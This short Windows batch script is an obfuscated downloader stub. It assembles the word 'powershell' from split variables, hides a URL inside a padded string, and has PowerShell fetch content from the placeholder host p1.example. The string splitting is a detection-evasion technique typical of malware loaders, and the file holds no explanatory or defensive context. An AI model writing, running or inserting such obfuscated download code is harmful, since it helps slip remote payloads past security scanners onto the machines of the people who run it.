@echo off
set "k=pow"
set k2=ersh
set "u=xhxtxtxpx:x/x/xpx1x.xexxxaxmxpxlxex/xp"
call set "c=%%k%%%%k2%%ell"
%c% -c "iwr '%u:~1,1%ttp://p1.example/p'"
